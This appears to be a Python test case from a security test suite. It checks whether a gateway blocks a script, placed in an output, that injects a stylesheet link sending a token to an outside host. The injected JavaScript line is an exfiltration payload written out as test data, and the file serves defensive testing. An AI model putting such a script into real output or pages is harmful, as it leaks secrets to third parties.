"""A script loads a style sheet from outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = 'http://{WEB}/{ground.token}'; document.head.append(s)"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
